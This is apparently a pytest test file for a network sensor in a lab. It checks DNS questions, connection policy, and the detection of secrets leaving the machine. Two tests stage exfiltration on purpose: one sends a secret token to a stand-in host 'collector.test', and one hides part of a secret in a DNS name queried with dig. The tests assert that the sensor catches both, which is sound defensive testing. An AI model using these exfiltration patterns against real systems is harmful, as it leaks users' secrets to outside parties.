# SPDX-License-Identifier: MIT
"""The portable sensor on real processes, sockets and packets."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from lab import Lab
from lab.guard import AGENT
from lab.network import BARE, COLLECTOR, RESOLVER
from lab.tokens import Token

pytestmark = pytest.mark.root

OBSERVE = Path(__file__).parent / "observe.py"
VISIT = """\
import socket, sys, time
with socket.create_connection((sys.argv[1], int(sys.argv[2]))):
    time.sleep(float(sys.argv[3]))
"""
LONG_S = 2.0
"""Longer than the pause between two looks, on a busy machine, too."""
Events = list[dict[str, Any]]
Observe = Callable[..., Events]


@pytest.fixture
def observe(lab: Lab) -> Observe:
    """Runs a command in the lab under the sensor and returns its events, of one kind or all."""

    def run(
        command: Sequence[str], *secrets: Token, under: Sequence[str] = (), packets: bool = False
    ) -> Events:
        process = lab.popen(
            [
                *under,
                sys.executable,
                str(OBSERVE),
                *(["--packets"] if packets else []),
                *(token.name for token in secrets),
                "--",
                *command,
            ],
            env={"PYTHONPATH": str(AGENT), **{k: v for s in secrets for k, v in s.env.items()}},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        out, err = process.communicate(timeout=20)
        assert process.returncode == 0, err
        return [json.loads(line) for line in out.splitlines()]

    return run


def of(events: Events, kind: str) -> Events:
    return [event for event in events if event["kind"] == kind]


def visit(host: str, port: int, *arguments: str, hold_s: float = LONG_S) -> list[str]:
    return [sys.executable, "-c", VISIT, host, str(port), str(hold_s), *arguments]


def test_a_connection_to_a_named_host(observe: Observe) -> None:
    events = observe(visit("home.test", 443))
    (connect,) = of(events, "connect")
    assert (connect["policy"], connect["reason"], connect["port"]) == ("allow", "allow-rule", 443)
    asked = {(event["name"], event["qtype"], event["resolver"]) for event in of(events, "question")}
    assert asked == {("home.test", "A", RESOLVER), ("home.test", "AAAA", RESOLVER)}
    programs = {event["pid"]: event["exe"] for event in of(events, "exec")}
    assert "python" in programs[connect["pid"]]


def test_a_secret_on_its_way_to_a_collector(observe: Observe, secret: Token) -> None:
    events = observe(visit("collector.test", 80, secret.value), secret)
    (connect,) = of(events, "connect")
    assert (connect["policy"], connect["applied"]) == ("deny", "allow")
    assert (connect["carriage"], connect["ip"] in COLLECTOR) == ("fail", True)
    assert connect["hits"] == [{"secret": secret.name, "encoding": "raw"}]
    assert secret.value not in json.dumps(events)


def test_a_program_that_is_gone_before_the_next_look(observe: Observe, secret: Token) -> None:
    """Its first packet is the reason to look: here and now, whose is it? There is no other look,
    so that it does not have to be short, which on a busy machine may be too short."""
    events = observe(visit(BARE, 80, secret.value), secret, packets=True)
    (connect,) = of(events, "connect")
    assert (connect["ip"], connect["carriage"]) == (BARE, "fail")


def test_a_secret_in_a_question(observe: Observe, secret: Token) -> None:
    label = secret.value.replace("_", "")[-30:]
    piece = Token(secret.name, label)
    events = observe(["dig", "+short", f"{label}.collector.test"], piece)
    (question,) = of(events, "question")
    assert (question["in_name"], question["carriage"]) == (True, "fail")
    assert question["name"].endswith(".collector.test")
    assert label not in json.dumps(events)


def test_without_rights_it_says_what_is_missing(observe: Observe) -> None:
    events = observe(visit("home.test", 443), under=["setpriv", "--bounding-set=-net_raw"])
    started = events[0]
    assert any("DNS was not seen" in note and "CAP_NET_RAW" in note for note in started["notes"])
    assert of(events, "question") == []
    (connect,) = of(events, "connect")
    assert connect["reason"] == "not-named", "without DNS an address has no name"


def test_dockers_resolver_is_heard_behind_its_translation(lab: Lab, observe: Observe) -> None:
    """In a container the questions go to 127.0.0.11, and a rule sends them to another port."""
    (lab.directory / "resolv.conf").write_text("nameserver 127.0.0.11\n")
    rules = """
        add table ip dns
        add chain ip dns out { type nat hook output priority -100; }
        add rule ip dns out ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:34567
    """
    subprocess_in(lab, ["nft", "-f", "-"], rules)
    server = lab.popen([sys.executable, "-c", FORWARD, RESOLVER], stdout=subprocess.PIPE)
    assert server.stdout is not None and server.stdout.readline() == "ready\n"
    events = observe(visit("home.test", 443))
    assert {event["resolver"] for event in of(events, "question")} == {"127.0.0.11"}
    (connect,) = of(events, "connect")
    assert connect["reason"] == "allow-rule"
    server.kill()
    server.communicate()


FORWARD = """\
import socket, sys
here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
here.bind(("127.0.0.11", 34567))
there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
there.connect((sys.argv[1], 53))
print("ready", flush=True)
while True:
    data, client = here.recvfrom(4096)
    there.send(data)
    here.sendto(there.recv(4096), client)
"""


def subprocess_in(lab: Lab, command: Sequence[str], text: str) -> None:
    done = lab.run(command, stdin=text)
    assert done.returncode == 0, done.stderr
